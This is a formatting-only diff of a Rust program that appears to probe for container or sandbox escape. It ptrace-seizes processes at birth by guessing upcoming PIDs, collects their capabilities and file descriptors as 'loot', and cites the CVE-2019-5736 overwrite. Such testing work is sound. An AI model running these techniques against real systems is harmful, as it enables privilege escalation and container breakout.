@@ -26,9 +26,7 @@ fn deadline(args: &[String]) -> Instant {
 fn processes() -> impl Iterator<Item = i32> {
     let own = i32::try_from(std::process::id()).unwrap_or(0);
     let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
-    entries
-        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
-        .filter(move |pid| *pid != own)
+    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).filter(move |pid| *pid != own)
 }
 
 /// Opens the programs of all processes for writing again and again (CVE-2019-5736): the counts of the answers, and what
@@ -71,20 +69,12 @@ struct Loot {
 fn ptrace_all_loop(args: &[String]) -> Answer {
     let end = deadline(args);
     let mut known: BTreeSet<i32> = processes().collect();
-    let mut last = known
-        .iter()
-        .copied()
-        .max()
-        .unwrap_or(1)
-        .max(i32::try_from(std::process::id()).unwrap_or(1));
+    let mut last = known.iter().copied().max().unwrap_or(1).max(i32::try_from(std::process::id()).unwrap_or(1));
     let mut loot = Loot::default();
     while Instant::now() < end {
         // The next numbers are tried before the kernel gives them out, so that a process is met at its birth.
         let next = (last + 1..last + 24).collect::<Vec<_>>();
-        let fresh: Vec<i32> = next
-            .into_iter()
-            .chain(processes().filter(|pid| !known.contains(pid)))
-            .collect();
+        let fresh: Vec<i32> = next.into_iter().chain(processes().filter(|pid| !known.contains(pid))).collect();
         for pid in fresh {
             match ptrace::seize(Pid::from_raw(pid), ptrace::Options::empty()) {
                 Ok(()) => loot.take(pid),
@@ -113,8 +103,7 @@ impl Loot {
         let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
         let set = |field: &str| {
             let line = status.lines().find_map(|line| line.strip_prefix(field));
-            line.and_then(|text| u64::from_str_radix(text.trim(), 16).ok())
-                .unwrap_or(0)
+            line.and_then(|text| u64::from_str_radix(text.trim(), 16).ok()).unwrap_or(0)
         };
         self.effective |= set("CapEff:");
         self.permitted |= set("CapPrm:");
@@ -129,11 +118,7 @@ impl Loot {
     fn descriptors(&mut self, pid: i32) {
         let pidfd = call(libc::SYS_pidfd_open, &[i64::from(pid), 0]);
         for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
-            let number: i64 = entry
-                .file_name()
-                .to_str()
-                .and_then(|name| name.parse().ok())
-                .unwrap_or(0);
+            let number: i64 = entry.file_name().to_str().and_then(|name| name.parse().ok()).unwrap_or(0);
             let target = fs::read_link(entry.path()).map_or("?".to_owned(), |target| target.display().to_string());
             if number > 2 {
                 self.descriptors.insert(target.clone());
